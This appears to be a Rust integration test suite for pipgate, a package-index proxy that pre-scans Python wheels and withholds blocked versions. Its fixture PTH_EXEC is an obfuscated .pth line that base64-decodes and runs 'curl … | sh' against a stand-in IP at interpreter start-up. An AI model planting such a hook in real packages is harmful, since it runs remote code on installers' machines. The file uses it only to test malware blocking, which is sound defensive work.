//! Pre-scan, end to end: a project page starts the download and scan of the files a
//! resolver is likely to pick, so the first install of a project whose newest version is
//! blocked falls back to the previous one (no 403 for the first user) with real pip and uv;
//! with `--prescan off` the first user still meets the 403. Concurrent pages start each
//! pre-scan once, pages asked for together have their pre-scans run side by side, and a
//! page of many wheels fetches only the ones the tags select.

mod common;
use common::*;
use std::time::{Duration, Instant};

/// A `.pth` line that decodes and runs a downloader at interpreter start-up: blocked by the
/// shipped policy.
const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";

fn shipped_policy() -> String {
    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
}

/// `pkg` 1.0 (clean) and 1.1 (malicious), as wheels.
fn index_with_blocked_newest(format: Format) -> FakeIndex {
    let idx = FakeIndex::start(format);
    idx.add_dist("pkg", wheel("pkg", "1.0", &[], &[]));
    idx.add_dist("pkg", wheel("pkg", "1.1", &[], &[("pkg_start.pth", PTH_EXEC)]));
    idx
}

/// Whether a client's output shows a 403 (pip: `HTTP error 403`, `403 Client Error:
/// Blocked by pipgate…`; uv: `403 Forbidden`). Not a bare `403`: file URLs are hex digests.
fn met_403(output: &str) -> bool {
    ["error 403", "403 Client Error", "403 Forbidden", "Blocked by pipgate"].iter().any(|s| output.contains(s))
}

/// How many log lines say `what` about `filename`.
fn logged(gate: &Pipgate, what: &str, filename: &str) -> usize {
    gate.log().lines().filter(|l| l.contains(what) && l.contains(filename)).count()
}

fn wait_for(what: &str, mut ok: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !ok() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// No client was answered a block.
fn no_block_served(gate: &Pipgate) {
    let audit = gate.audit();
    assert!(
        audit.iter().filter(|r| r["request"] != "page").all(|r| r["decision"] != "block"),
        "a client met a block: {audit:#?}"
    );
}

#[test]
fn first_pip_install_with_a_blocked_newest_version_falls_back_without_a_403() {
    let idx = index_with_blocked_newest(Format::Json);
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "pkg"]);
    assert!(out.status.success(), "{}", show(&out));
    assert!(!met_403(&show(&out)), "{}", show(&out));
    assert_eq!(venv.run("import pkg; print(pkg.VERSION)"), "1.0");
    no_block_served(&gate);
    // The page's pre-scan found 1.1 blocked before pip chose; 1.1 was never sent.
    let log = gate.log();
    assert!(
        log.lines()
            .any(|l| l.contains("pre-scan done") && l.contains("pkg-1.1-py3-none-any.whl") && l.contains("block")),
        "{log}"
    );
    let audit = gate.audit();
    let named = |r: &&serde_json::Value| r["filename"] == "pkg-1.1-py3-none-any.whl";
    assert!(audit.iter().filter(named).all(|r| r["request"] == "page"), "{audit:#?}");
    // The silent fallback is on record: the page withheld 1.1.
    assert!(audit.iter().filter(named).any(|r| r["decision"] == "block"), "{audit:#?}");
    // And in the metrics an operator scrapes: one pre-scan blocked, the page's wait ended in
    // time, and once the older version's pre-scan ends nothing is left pending or running.
    let base = gate.base();
    wait_for("the pre-scans to end", || metric(&base, "pipgate_prescan_pending", &[]) == 0.0);
    let (text, scrape) = scrape(&base);
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], f64);
    let cases: [Case; 5] = [
        ("1.1's pre-scan blocked", "pipgate_prescans_total", &[("outcome", "block")], 1.0),
        ("1.0's pre-scan served", "pipgate_prescans_total", &[("outcome", "serve")], 1.0),
        ("nothing failed", "pipgate_prescans_total", &[("outcome", "failed")], 0.0),
        ("nothing running", "pipgate_prescan_running", &[], 0.0),
        ("the page waited until 1.1 was known", "pipgate_prescan_page_waits_total", &[("result", "done")], 1.0),
    ];
    for (case, name, labels, want) in cases {
        assert_eq!(sample_sum(&scrape, name, labels), want, "{case}: {name}{labels:?}\n{text}");
    }
}

#[test]
fn first_uv_install_with_a_blocked_newest_version_falls_back_without_a_403() {
    let idx = index_with_blocked_newest(Format::Html);
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));
    let venv = Venv::new();
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "pkg"]);
    assert!(out.status.success(), "{}", show(&out));
    assert!(!met_403(&show(&out)), "{}", show(&out));
    assert_eq!(venv.run("import pkg; print(pkg.VERSION)"), "1.0");
    no_block_served(&gate);
}

#[test]
fn with_prescan_off_the_first_user_still_meets_the_403() {
    let idx = index_with_blocked_newest(Format::Json);
    let gate = Pipgate::start_args(&idx.url(), Some(&shipped_policy()), &["--prescan", "off"]);
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "pkg"]);
    assert!(!out.status.success(), "{}", show(&out));
    assert!(met_403(&show(&out)), "{}", show(&out));
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "pkg"]);
    // By now the page knows: uv falls back (the behaviour before pre-scan).
    assert!(out.status.success(), "{}", show(&out));
    assert_eq!(logged(&gate, "pre-scan started", "pkg-"), 0, "{}", gate.log());
}

#[test]
fn twenty_concurrent_page_requests_start_each_prescan_once() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("pkg", wheel("pkg", "1.0", &[], &[]));
    idx.add_dist("pkg", sdist("pkg", "1.1", &[]));
    idx.add_dist("pkg", wheel("pkg", "1.1", &[], &[]));
    idx.add_dist("pkg", wheel("pkg", "0.9", &[], &[]));
    idx.state.lock().unwrap().page_delay = Some(Duration::from_millis(300));
    let gate = Pipgate::start(&idx.url(), None);
    let url = format!("{}pkg/", gate.url);
    let pages: Vec<_> = (0..20)
        .map(|_| {
            let url = url.clone();
            std::thread::spawn(move || http().get(url).send().unwrap().status())
        })
        .collect();
    for p in pages {
        assert_eq!(p.join().unwrap(), 200);
    }
    // The two newest versions' files; 0.9 is beyond the default depth of 2.
    let expected = ["pkg-1.1-py3-none-any.whl", "pkg-1.1.tar.gz", "pkg-1.0-py3-none-any.whl"];
    wait_for("the pre-scans to finish", || expected.iter().all(|f| logged(&gate, "pre-scan done", f) == 1));
    // Later pages find the verdicts known: nothing starts again.
    for _ in 0..5 {
        assert_eq!(http().get(&url).send().unwrap().status(), 200);
    }
    for f in expected {
        assert_eq!(logged(&gate, "pre-scan started", f), 1, "{f}: {}", gate.log());
        assert_eq!(idx.hits(&format!("/files/{f}")), 1, "{f} was downloaded more than once");
    }
    assert_eq!(logged(&gate, "pre-scan started", "pkg-0.9"), 0, "{}", gate.log());
    assert_eq!(idx.hits("/files/pkg-0.9-py3-none-any.whl"), 0);
    // The metrics agree with the log: three pre-scans ended, each counted under its verdict
    // (the sdist's setup.py annotates), none failed, none left pending.
    let base = gate.base();
    wait_for("the pending gauge to drain", || metric(&base, "pipgate_prescan_pending", &[]) == 0.0);
    let (text, scrape) = scrape(&base);
    let log = gate.log();
    for outcome in ["serve", "annotate", "block"] {
        let said = format!("verdict=\"{outcome}\"");
        let logged = log.lines().filter(|l| l.contains("pre-scan done") && l.contains(&said)).count();
        let counted = sample_sum(&scrape, "pipgate_prescans_total", &[("outcome", outcome)]);
        assert_eq!(counted, logged as f64, "{outcome}: metric vs log\n{text}\n{log}");
    }
    assert_eq!(sample_sum(&scrape, "pipgate_prescans_total", &[]), 3.0, "{text}");
    assert_eq!(sample_sum(&scrape, "pipgate_prescan_duration_seconds_count", &[]), 3.0, "{text}");
}

#[test]
fn pages_asked_for_together_each_hide_their_blocked_newest_version() {
    // uv asks for every page of a resolution at once. Each page waits for the pre-scan of its
    // newest version; those must run side by side, not one after another behind the
    // background pool (here one permit): twelve downloads of 400 ms each in a row (4.8 s)
    // would outlast the page's 3 s wait, and the later pages would list the blocked version.
    let idx = FakeIndex::start(Format::Json);
    let projects: Vec<String> = (0..12).map(|i| format!("pkg{i}")).collect();
    for p in &projects {
        idx.add_dist(p, wheel(p, "1.0", &[], &[]));
        idx.add_dist(p, wheel(p, "1.1", &[], &[(&format!("{p}_start.pth"), PTH_EXEC)]));
    }
    idx.state.lock().unwrap().file_delay = Some(Duration::from_millis(400));
    let gate = Pipgate::start_args(
        &idx.url(),
        Some(&shipped_policy()),
        &["--prescan-concurrency", "1", "--prescan-wait", "3s"],
    );
    let pages: Vec<_> = projects
        .iter()
        .map(|p| {
            let url = format!("{}{p}/", gate.url);
            std::thread::spawn(move || {
                let resp = http().get(url).header("accept", "application/vnd.pypi.simple.v1+json").send().unwrap();
                assert_eq!(resp.status(), 200);
                resp.json::<serde_json::Value>().unwrap()
            })
        })
        .collect();
    for (p, page) in projects.iter().zip(pages) {
        let page = page.join().unwrap();
        let newest = format!("{p}-1.1-py3-none-any.whl");
        let listed = page["files"].as_array().unwrap().iter().find(|f| f["filename"] == newest.as_str());
        let withheld = listed.is_none_or(|f| f["yanked"].as_str().is_some_and(|r| !r.is_empty()));
        assert!(withheld, "{p}: the blocked {newest} is offered as installable: {page:#}");
    }
}

#[test]
fn background_prescans_wait_while_a_client_request_is_in_flight() {
    // A resolver's requests should not wait for CPU spent scanning versions it may never
    // ask for: a background pre-scan (an older version) starts once no client request has
    // been in flight for a moment, or after `--prescan-yield`. Here `pkg`'s page starts the
    // background pre-scan of pkg 1.0 while another page request (a slow upstream) is in
    // flight; with the default yield it starts only after that request, with none it does not wait.
    for (case, flags, waits) in
        [("the default yield", &[][..], true), ("--prescan-yield 0", &["--prescan-yield", "0"][..], false)]
    {
        let idx = FakeIndex::start(Format::Json);
        idx.add_dist("pkg", wheel("pkg", "1.0", &[], &[]));
        idx.add_dist("pkg", wheel("pkg", "1.1", &[], &[]));
        idx.add_dist("other", wheel("other", "1.0", &[], &[]));
        let gate = Pipgate::start_args(&idx.url(), None, flags);
        // The slow request is in flight before pkg's page is asked for, and ends 2 s later.
        idx.state.lock().unwrap().page_delay = Some(Duration::from_millis(2000));
        let slow = format!("{}other/", gate.url);
        let slow = std::thread::spawn(move || http().get(slow).send().unwrap().status());
        wait_for("the slow request to reach the upstream", || idx.arrived("/simple/other/") == 1);
        idx.state.lock().unwrap().page_delay = None;
        assert_eq!(http().get(format!("{}pkg/", gate.url)).send().unwrap().status(), 200, "{case}");
        assert_eq!(slow.join().unwrap(), 200, "{case}");
        wait_for("pkg 1.0's pre-scan", || logged(&gate, "pre-scan done", "pkg-1.0-py3-none-any.whl") == 1);
        let log = gate.log();
        let line = |what: &str, about: &str| {
            log.lines()
                .position(|l| l.contains(what) && l.contains(about))
                .unwrap_or_else(|| panic!("{case}: no {what} {about}:\n{log}"))
        };
        let slow_ended = line("request", "path=/simple/other/");
        let started = line("pre-scan started", "pkg-1.0-py3-none-any.whl");
        let yielded: u64 = log
            .lines()
            .nth(started)
            .unwrap()
            .split("yielded_ms=")
            .nth(1)
            .unwrap()
            .split(' ')
            .next()
            .unwrap()
            .parse()
            .unwrap();
        if waits {
            assert!(started > slow_ended, "{case}: pkg 1.0's pre-scan started during the slow request:\n{log}");
            assert!(yielded >= 1000, "{case}: yielded {yielded} ms:\n{log}");
        } else {
            assert!(started < slow_ended, "{case}: pkg 1.0's pre-scan waited for the slow request:\n{log}");
            assert!(yielded < 500, "{case}: yielded {yielded} ms");
        }
        // The metrics say the same: one background pre-scan yielded, for about that long.
        let (text, scrape) = scrape(&gate.base());
        assert_eq!(sample_sum(&scrape, "pipgate_prescan_yield_seconds_count", &[]), 1.0, "{case}\n{text}");
        let sum = sample_sum(&scrape, "pipgate_prescan_yield_seconds_sum", &[]);
        assert!((sum * 1000.0 - yielded as f64).abs() < 2.0, "{case}: metric {sum} s, log {yielded} ms");
        // The newest versions' pre-scans, which their pages wait for, never yield.
        for f in ["pkg-1.1-py3-none-any.whl", "other-1.0-py3-none-any.whl"] {
            let l = log.lines().nth(line("pre-scan started", f)).unwrap();
            assert!(l.contains("yielded_ms=0"), "{case}: {l}");
        }
    }
}

#[test]
fn a_page_a_background_prescan_changed_is_rendered_again_before_the_next_request() {
    // A resolve asks for a page; the pre-scan of an older version ends after it, with a block,
    // and changes what the page lists. The next resolve should get the page from memory, not
    // wait for it to be rendered again: pipgate re-renders it in the background once clients
    // are quiet.
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("pkg", wheel("pkg", "1.0", &[], &[("pkg_start.pth", PTH_EXEC)]));
    idx.add_dist("pkg", wheel("pkg", "1.1", &[], &[]));
    let gate = Pipgate::start(&idx.url(), Some(&shipped_policy()));
    let page = || {
        let resp = http()
            .get(format!("{}pkg/", gate.url))
            .header("accept", "application/vnd.pypi.simple.v1+json")
            .send()
            .unwrap();
        assert_eq!(resp.status(), 200);
        resp.json::<serde_json::Value>().unwrap()
    };
    let yanked = |page: &serde_json::Value| {
        let files = page["files"].as_array().unwrap();
        let f = files.iter().find(|f| f["filename"] == "pkg-1.0-py3-none-any.whl");
        f.is_none_or(|f| f["yanked"].as_str().is_some_and(|r| !r.is_empty()))
    };
    let renders = || gate.log().lines().filter(|l| l.contains("page rendered") && l.contains("project=pkg")).count();
    assert!(!yanked(&page()), "pkg 1.0 is not known blocked before its background pre-scan");
    wait_for("pkg 1.0's pre-scan", || logged(&gate, "pre-scan done", "pkg-1.0-py3-none-any.whl") == 1);
    wait_for("the page refreshed", || {
        gate.log().lines().any(|l| l.contains("page refreshed") && l.contains("project=pkg"))
    });
    let before = renders();
    assert!(yanked(&page()), "the blocked pkg 1.0 is withheld from the next page:\n{}", gate.log());
    assert_eq!(renders(), before, "the next page came from memory:\n{}", gate.log());
    let (text, scrape) = scrape(&gate.base());
    assert!(sample_sum(&scrape, "pipgate_pages_refreshed_total", &[]) >= 1.0, "{text}");
}

/// 30 wheels per version (5 CPython versions × 6 platforms), 3 versions, each wheel
/// `kib` KiB of incompressible bytes.
fn many_wheels(idx: &FakeIndex, kib: usize) -> u64 {
    let mut total = 0;
    for version in ["1.0", "1.1", "1.2"] {
        for py in ["cp310", "cp311", "cp312", "cp313", "cp314"] {
            for plat in [
                "manylinux_2_17_x86_64.manylinux2014_x86_64",
                "manylinux_2_17_aarch64.manylinux2014_aarch64",
                "musllinux_1_2_x86_64",
                "macosx_11_0_arm64",
                "macosx_10_9_x86_64",
                "win_amd64",
            ] {
                // Hex of a hash chain compresses to about half: distinct, realistic-sized bodies.
                let mut blob = String::new();
                let mut h = sha256_hex(format!("{version}{py}{plat}").as_bytes());
                while blob.len() < kib * 1024 {
                    h = sha256_hex(h.as_bytes());
                    blob.push_str(&h);
                }
                let mut d = wheel("many", version, &[], &[("many/blob.txt", &blob)]);
                d.filename = format!("many-{version}-{py}-{py}-{plat}.whl");
                total += d.bytes.len() as u64;
                idx.add_dist("many", d);
            }
        }
    }
    total
}

/// Bytes the fake upstream sent for files of `many`.
fn upstream_file_bytes(idx: &FakeIndex) -> (usize, u64) {
    let s = idx.state.lock().unwrap();
    let files = &s.projects["many"];
    let mut n = 0;
    let mut bytes = 0;
    for f in files {
        let hits = s.hits.get(&format!("/files/{}", f.dist.filename)).copied().unwrap_or(0);
        n += hits;
        bytes += hits as u64 * f.dist.bytes.len() as u64;
    }
    (n, bytes)
}

/// What a pre-scan costs on a page of 90 platform wheels: the upstream bytes it fetches and
/// the page latency with and without the wait (printed; run with `--nocapture`).
#[test]
fn a_page_of_many_wheels_prescans_only_the_selected_ones_and_says_what_it_cost() {
    let idx = FakeIndex::start(Format::Json);
    let total = many_wheels(&idx, 512);
    let mut figures = Vec::new();
    for (label, flags) in [
        ("pre-scan on, page waits (default)", &[][..]),
        ("pre-scan on, no wait", &["--prescan-wait", "0"][..]),
        ("pre-scan off", &["--prescan", "off"][..]),
    ] {
        idx.state.lock().unwrap().hits.clear();
        let gate = Pipgate::start_args(&idx.url(), None, flags);
        let started = Instant::now();
        let page = http().get(format!("{}many/", gate.url)).send().unwrap();
        let latency = started.elapsed();
        assert_eq!(page.status(), 200);
        let expected = if flags.contains(&"off") { 0 } else { 16 };
        if expected > 0 {
            wait_for("the pre-scans to finish", || logged(&gate, "pre-scan done", "many-") == expected);
        }
        std::thread::sleep(Duration::from_millis(300));
        let (files, bytes) = upstream_file_bytes(&idx);
        // Default tags: CPython 3.13–3.15 on x86-64 Linux, macOS and win_amd64: 2 Pythons
        // here × 4 wheels, for the 2 newest versions; each fetched once.
        assert_eq!(files, expected, "{label}: {}", gate.log());
        for f in ["many-1.2-cp313-cp313-win_amd64.whl", "many-1.1-cp314-cp314-macosx_11_0_arm64.whl"] {
            assert_eq!(idx.hits(&format!("/files/{f}")), usize::from(expected > 0), "{label}: {f}");
        }
        for f in ["many-1.0-cp313-cp313-win_amd64.whl", "many-1.2-cp312-cp312-win_amd64.whl"] {
            assert_eq!(idx.hits(&format!("/files/{f}")), 0, "{label}: {f}");
        }
        figures.push(format!(
            "{label}: first page {} ms; upstream file bytes {} KiB in {files} files ({:.1}% of the page's {} KiB)",
            latency.as_millis(),
            bytes >> 10,
            bytes as f64 * 100.0 / total as f64,
            total >> 10
        ));
    }
    eprintln!("pre-scan cost on a page of 90 wheels (30 per version):\n  {}", figures.join("\n  "));
}
